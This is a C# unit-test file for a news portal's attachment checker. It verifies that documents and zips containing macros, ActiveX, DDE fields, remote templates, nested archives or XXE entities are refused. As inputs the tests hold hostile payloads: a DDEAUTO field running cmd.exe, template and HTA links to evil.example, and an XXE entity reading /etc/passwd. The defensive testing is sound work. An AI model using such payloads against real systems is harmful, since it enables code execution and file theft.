using System.Text;
using NewsPortal.Media.Attachments;
using Xunit;

namespace NewsPortal.Tests.Media.Attachments;

public sealed class AttachmentPackageTests : IDisposable
{
    private const string DocumentTypes =
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

    private const string Relationship = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private static readonly AttachmentRules WithZip = new() { AllowZip = true };

    private readonly AttachmentFolder _folder = new();
    private readonly byte[] _docx = OfficeFiles.Docx("Văn bản");

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData("word/vbaProject.bin")]
    [InlineData("word/vbaData.xml")]
    public void A_document_with_a_macro_project_is_refused(string part) =>
        Assert.Equal(AttachmentFault.Macros, FaultOfDocxWith(part, "x"));

    [Theory]
    [InlineData("application/vnd.ms-word.document.macroEnabled.main+xml")]
    [InlineData("application/vnd.ms-excel.sheet.binary.macroEnabled.main")]
    [InlineData("application/vnd.ms-excel.macrosheet+xml")]
    public void A_document_that_says_it_holds_macros_is_refused(string type) => Assert.Equal(
        AttachmentFault.Macros,
        _folder.FaultOf("a.docx", ZipFiles.Replace(_docx, "[Content_Types].xml", DocumentTypes, type)));

    [Theory]
    [InlineData("Basic/Standard/Module1.xml", "<x/>")]
    [InlineData("Scripts/python/a.py", "x")]
    [InlineData("styles.xml", "<a xmlns:x='l'><b x:href='vnd.sun.star.script:Standard.M?language=Basic'/></a>")]
    public void An_open_document_with_macros_is_refused(string part, string content) => Assert.Equal(
        AttachmentFault.Macros, _folder.FaultOf("a.odt", ZipFiles.With(Odt(""), part, content)));

    [Fact]
    public void ActiveX_is_refused_by_place_and_by_type()
    {
        Assert.Equal(AttachmentFault.ActiveContent, FaultOfDocxWith("word/activeX/activeX1.xml", "<x/>"));
        Assert.Equal(AttachmentFault.ActiveContent, _folder.FaultOf("a.docx", ZipFiles.Replace(
            _docx, "[Content_Types].xml", "</Types>",
            "<Override PartName='/x.xml' ContentType='application/vnd.ms-office.activeX+xml'/></Types>")));
    }

    [Theory]
    [InlineData("attachedTemplate", "http://evil.example/t.dotm")]
    [InlineData("attachedTemplate", "file:///\\\\server\\share\\t.dotm")]
    [InlineData("oleObject", "https://evil.example/a.hta")]
    [InlineData("frame", "https://evil.example/")]
    public void Templates_and_objects_from_elsewhere_are_refused(string type, string target)
    {
        var refused = _folder.Refuse("a.docx", ZipFiles.With(_docx, "word/_rels/settings.xml.rels", External(type, target)));
        Assert.Equal((AttachmentFault.ExternalContent, target), (refused.Fault, refused.Subject));
    }

    [Theory]
    [InlineData("attachedTemplate", "file:///C:\\Users\\a\\Templates\\Cong-van.dotx")]
    [InlineData("hyperlink", "https://example.vn/")]
    [InlineData("image", "https://example.vn/a.png")]
    public void The_authors_own_template_and_plain_links_pass(string type, string target) => Assert.Equal(
        AttachmentKind.Docx,
        _folder.Check("a.docx", ZipFiles.With(_docx, "word/_rels/settings.xml.rels", External(type, target))));

    [Fact]
    public void A_part_that_takes_in_a_page_is_refused() => Assert.Equal(
        AttachmentFault.ActiveContent, FaultOfDocxWith("word/_rels/document.xml.rels", External("aFChunk", "a.htm")));

    [Theory]
    [InlineData("<w:fldSimple w:instr=' DDEAUTO c:\\\\cmd.exe \"/k calc\" '/>")]
    [InlineData("<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r>"
        + "<w:instrText>E cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>")]
    public void A_field_that_starts_a_program_is_refused(string field) => Assert.Equal(
        AttachmentFault.ActiveContent,
        _folder.FaultOf("a.docx", ZipFiles.Replace(_docx, "word/document.xml", "</w:p>", $"{field}</w:p>")));

    [Fact]
    public void A_text_about_DDE_is_no_field() =>
        Assert.Equal(AttachmentKind.Docx, _folder.Check("a.docx", OfficeFiles.Docx("DDEAUTO là một trường cũ")));

    [Fact]
    public void A_sheet_that_starts_a_program_is_refused() => Assert.Equal(
        AttachmentFault.ActiveContent,
        _folder.FaultOf("a.xlsx", ZipFiles.With(
            OfficeFiles.Xlsx(["a"]), "xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService='cmd'/></externalLink>")));

    [Theory]
    [InlineData("a.docx", "word/a.xml")]
    [InlineData("a.docx", "[Content_Types].xml")]
    [InlineData("a.docx", "customXml/item1.xml")]
    public void A_document_type_in_any_part_is_refused(string name, string part) => Assert.Equal(
        AttachmentFault.Damaged,
        _folder.FaultOf(name, ZipFiles.With(_docx, part, "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>")));

    [Fact]
    public void A_part_nested_without_end_is_refused() =>
        Assert.Equal(AttachmentFault.Damaged, FaultOfDocxWith("word/a.xml", string.Concat(Enumerable.Repeat("<a>", 5_000))));

    [Fact]
    public void A_part_of_nothing_but_new_names_is_refused() => Assert.Equal(
        AttachmentFault.Damaged,
        FaultOfDocxWith("word/a.xml", $"<a>{string.Concat(Enumerable.Range(0, 60_000).Select(i => $"<n{i}/>"))}</a>"));

    [Fact]
    public void Programs_pages_and_archives_inside_are_refused_by_content()
    {
        Assert.Equal(AttachmentFault.ActiveContent, FaultOfDocxWith("word/media/image1.png", MediaFiles.WindowsProgram()));
        Assert.Equal(AttachmentFault.ActiveContent, FaultOfDocxWith("word/embeddings/a.bin", "<html><script>"));
        Assert.Equal(AttachmentFault.ActiveContent, FaultOfDocxWith("word/afchunk.bin", "{\\rtf1 "));
        Assert.Equal(AttachmentFault.NestedArchive, FaultOfDocxWith("word/embeddings/a.bin", "Rar!\x1A\a  "));
        Assert.Equal(AttachmentFault.NestedArchive, FaultOfDocxWith("word/embeddings/a.bin", ZipFiles.Of(("a", "b"))));
    }

    [Fact]
    public void Objects_that_wrap_any_file_are_refused()
    {
        Assert.Equal(AttachmentFault.ActiveContent, FaultOfDocxWith("word/embeddings/oleObject1.bin", MediaFiles.Compound("\u0001Ole10Native")));
        Assert.Equal(AttachmentFault.Macros, FaultOfDocxWith("word/embeddings/a.xls", MediaFiles.Compound("_VBA_PROJECT_CUR")));
        Assert.Equal(
            AttachmentKind.Docx,
            _folder.Check("a.docx", ZipFiles.With(_docx, "word/embeddings/oleObject1.bin", MediaFiles.Compound("Equation Native"))));
    }

    [Fact]
    public void The_data_of_a_chart_passes_and_obeys_the_rules_of_documents()
    {
        var sheet = OfficeFiles.Xlsx(["a", 1]);
        Assert.Equal(AttachmentKind.Docx, _folder.Check("a.docx", ZipFiles.With(_docx, "word/embeddings/a.xlsx", sheet)));
        Assert.Equal(
            AttachmentFault.Macros,
            FaultOfDocxWith("word/embeddings/a.xlsx", ZipFiles.With(sheet, "xl/vbaProject.bin", "x")));
    }

    [Fact]
    public void An_encrypted_open_document_is_refused() => Assert.Equal(
        AttachmentFault.Encrypted,
        _folder.FaultOf("a.odt", ZipFiles.With(
            Odt(""), "META-INF/manifest.xml", "<m:manifest xmlns:m='m'><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>")));

    [Fact]
    public void An_empty_part_as_LibreOffice_keeps_it_passes() => Assert.Equal(
        AttachmentKind.Odt, _folder.Check("a.odt", ZipFiles.With(Odt(""), "Configurations2/accelerator/current.xml", "")));

    [Fact]
    public void An_open_document_with_a_live_link_to_a_program_is_refused() => Assert.Equal(
        AttachmentFault.ActiveContent,
        _folder.FaultOf("a.odt", Odt("<text:dde-connection-decl office:dde-application='cmd'/>")));

    [Fact]
    public void A_drawing_in_a_document_may_be_svg_but_not_in_a_zip()
    {
        const string svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>";
        Assert.Equal(AttachmentKind.Docx, _folder.Check("a.docx", ZipFiles.With(_docx, "word/media/image1.svg", svg)));
        Assert.Equal(AttachmentFault.ActiveContent, _folder.FaultOf("a.zip", ZipFiles.Of(("a.svg", svg)), WithZip));
        Assert.Equal(AttachmentFault.ActiveContent, _folder.FaultOf("a.zip", ZipFiles.Of(("a.xml", svg)), WithZip));
    }

    [Theory]
    [InlineData("cai-dat.exe", AttachmentFault.ActiveContent)]
    [InlineData("trang.html", AttachmentFault.ActiveContent)]
    [InlineData("lenh.PS1", AttachmentFault.ActiveContent)]
    [InlineData("trong.rar", AttachmentFault.NestedArchive)]
    [InlineData("trong/trong.zip", AttachmentFault.NestedArchive)]
    public void A_zip_holds_no_programs_pages_or_archives_by_name(string name, AttachmentFault fault) =>
        Assert.Equal(fault, _folder.FaultOf("a.zip", ZipFiles.Of((name, "Văn bản")), WithZip));

    [Fact]
    public void A_zip_holds_documents_that_obey_their_own_rules()
    {
        var zip = ZipFiles.Of(("Công văn.docx", _docx), ("hop/", []), ("hoa-don.xml", Encoding.UTF8.GetBytes("<hoaDon/>")));
        Assert.Equal(AttachmentKind.Zip, _folder.Check("a.zip", zip, WithZip));
        Assert.Equal(AttachmentFault.Macros, _folder.FaultOf(
            "a.zip", ZipFiles.Of(("a.docx", ZipFiles.With(_docx, "word/vbaProject.bin", "x"))), WithZip));
        Assert.Equal(AttachmentFault.ActiveContent, _folder.FaultOf(
            "a.zip", ZipFiles.Of(("a.pdf", PdfFiles.Of("<< /OpenAction << /S /JavaScript /JS (x) >> >>"))), WithZip));
        Assert.Equal(AttachmentFault.NestedArchive, _folder.FaultOf("a.zip", ZipFiles.Of(("a.dat", zip)), WithZip));
        Assert.Equal(AttachmentFault.Empty, _folder.FaultOf("a.zip", [.. "PK\x05\x06"u8, .. new byte[18]], WithZip));
    }

    private static byte[] Odt(string body) => OfficeFiles.OpenDocument(OfficeFiles.Odt, body);

    private static string External(string type, string target) =>
        "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
        + $"<Relationship Id='r1' Type='{Relationship}{type}' Target='{target}' TargetMode='External'/></Relationships>";

    private AttachmentFault FaultOfDocxWith(string part, string content) => FaultOfDocxWith(part, Encoding.UTF8.GetBytes(content));

    private AttachmentFault FaultOfDocxWith(string part, byte[] content) =>
        _folder.FaultOf("a.docx", ZipFiles.With(_docx, part, content));
}
